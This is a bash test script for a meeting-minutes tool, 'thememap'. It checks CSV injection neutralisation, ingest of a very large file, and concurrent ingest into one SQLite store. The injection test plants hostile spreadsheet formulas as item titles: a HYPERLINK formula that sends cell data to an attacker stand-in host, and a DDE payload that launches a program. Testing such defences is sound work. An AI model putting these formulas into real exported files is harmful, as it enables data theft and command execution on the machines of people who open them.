#!/usr/bin/env bash
# Hardening checks that need the release thememap and outside tools (README.md, Robustness):
#   1. CSV injection: a document full of formulas, through `thememap run`, read back with Python's csv
#      module: neutralised by default, exact with --raw-csv.
#   2. A 100 MB document: stored whole; time and peak memory printed.
#   3. Two `thememap ingest` at once into one new store, three times: both exit 0, every document once.
# Python's standard library only. Fuzzing is not run here (building the fuzzers takes minutes); run
# Fuzz/fuzz.sh SECONDS for that.
set -euo pipefail
cd "$(dirname "$0")/.."
root=$(pwd)
swift build -c release --product thememap 2>&1 | grep -vE '^\[[0-9]+/[0-9]+\]' || true
bin="$(swift build -c release --show-bin-path)/thememap"
work=$(mktemp -d "${TMPDIR:-/tmp}/thememap-hardening.XXXXXX")
trap 'rm -rf "$work"' EXIT

page() {  # page BODY DAY N PADDING SALT: a generated minutes page with N items
  python3 - "$@" <<'PY'
import sys
body, day, n, pad, salt = sys.argv[1], sys.argv[2], int(sys.argv[3]), int(sys.argv[4]), sys.argv[5]
para = ("Members discussed the report on safeguarding, schools and taxi licensing with officers, and "
        f"asked for figures at the next meeting. {salt}\n\n")
out = [f"Meeting documents\n\n{body} - {day}\n\nItems\nNo. Item\n\n"]
for i in range(1, n + 1):
    out.append(f"{i}.\n\nItem {i} report\n\nMinutes:\n\n" + para * pad + f"Resolved\n\nThat the Panel note report {i}.\n\n")
sys.stdout.write("".join(out))
PY
}

echo "-- 1. CSV injection round trip through Python's csv module"
mkdir -p "$work/ds/documents"
cp Datasets/themes.yaml "$work/ds/"
python3 - "$work/ds/documents/hostile.txt" <<'PY'
import json, sys
titles = ['=HYPERLINK("http://evil.example/?"&A1,"Click")', '+SUM(1+1)', '-2+3', "@cmd|' /C calc'!A0",
          '=1+1', 'Plain title, with "quotes"', 'Safeguarding: MASH =not a formula']
text = "Meeting documents\n\n@Body =cmd - Friday, 20th April, 2018\n\nItems\nNo. Item\n\n"
for i, t in enumerate(titles, 1):
    text += f"{i}.\n\n{t}\n\nMinutes:\n\n=2+2 members noted the MASH report.\n\n"
open(sys.argv[1], "w", encoding="utf-8").write(text)
json.dump(titles, open(sys.argv[1] + ".json", "w"))
PY
mv "$work/ds/documents/hostile.txt.json" "$work/titles.json"
"$bin" run --datasets "$work/ds" --out "$work/out" >/dev/null
"$bin" run --datasets "$work/ds" --out "$work/raw" --raw-csv >/dev/null
python3 - "$work" <<'PY'
import csv, glob, json, os, sys
work = sys.argv[1]
titles = json.load(open(os.path.join(work, "titles.json")))
def column(folder, name, key):
    with open(os.path.join(work, folder, name), newline="", encoding="utf-8") as f:
        return [row[key] for row in csv.DictReader(f, strict=True)]
triggers = ("=", "+", "-", "@", "\t", "\r")
expect = ["'" + t if t.startswith(triggers) else t for t in titles]
assert column("out", "items.csv", "title") == expect, column("out", "items.csv", "title")
assert column("raw", "items.csv", "title") == titles, column("raw", "items.csv", "title")
assert column("out", "meetings.csv", "body") == ["'@Body =cmd"], column("out", "meetings.csv", "body")
assert column("raw", "meetings.csv", "body") == ["@Body =cmd"]
# No text cell of any default CSV starts with a trigger (numbers such as -1 are numbers, not text).
for path in glob.glob(os.path.join(work, "out", "*.csv")):
    with open(path, newline="", encoding="utf-8") as f:
        for row in csv.reader(f, strict=True):
            for cell in row:
                if cell.startswith(triggers):
                    float(cell)  # raises for a formula left as it was
print(f"ok: {len(titles)} hostile titles neutralised by default and exact with --raw-csv")
PY

echo "-- 2. a 100 MB document"
page "Generated Scrutiny Panel" "Friday, 20th April, 2018 10.00 am" 1000 760 "" >"$work/huge.txt"
ls -l "$work/huge.txt" | awk '{printf "%s bytes\n", $5}'
/usr/bin/time -f "ingest: %e s wall, %U s user, %M KB peak RSS" "$bin" ingest "$work/huge.txt" \
  --store "$work/huge.sqlite" | tail -1
python3 - "$work/huge.sqlite" <<'PY'
import sqlite3, sys
db = sqlite3.connect(sys.argv[1])
counts = {t: db.execute(f"SELECT COUNT(*) FROM {t}").fetchone()[0] for t in ("documents", "items", "recommendations")}
assert counts == {"documents": 1, "items": 1000, "recommendations": 1000}, counts
assert db.execute("PRAGMA integrity_check").fetchone()[0] == "ok"
print("ok:", counts)
PY
rm -f "$work"/huge.*

echo "-- 3. two ingests at once into one new store (3 rounds)"
mkdir -p "$work/docs"
for i in $(seq 0 199); do
  page "Generated Panel $((i % 7))" "Monday, $((i % 28 + 1)) March $((2000 + i / 28))" 12 1 "Document $i." \
    >"$work/docs/doc-$(printf %04d "$i").txt"
done
for round in 1 2 3; do
  rm -f "$work"/c.sqlite*
  (cd "$work" && ls docs/*.txt | head -140 | xargs "$bin" ingest --store c.sqlite >a.out 2>a.err) & a=$!
  (cd "$work" && ls docs/*.txt | tail -140 | sort -r | xargs "$bin" ingest --store c.sqlite >b.out 2>b.err) & b=$!
  wait $a || { cat "$work/a.err"; exit 1; }
  wait $b || { cat "$work/b.err"; exit 1; }
  python3 - "$work/c.sqlite" <<'PY'
import sqlite3, sys
db = sqlite3.connect(sys.argv[1])
docs = db.execute("SELECT COUNT(*), COUNT(DISTINCT path) FROM documents").fetchone()
items = db.execute("SELECT MIN(n), MAX(n) FROM (SELECT COUNT(i.id) n FROM meetings m LEFT JOIN items i ON i.meeting_id = m.id GROUP BY m.id)").fetchone()
assert docs == (200, 200), docs
assert items == (12, 12), items
assert db.execute("PRAGMA integrity_check").fetchone()[0] == "ok"
PY
  echo "round $round ok: both exit 0; 200 documents once each, 12 items each, integrity ok"
done
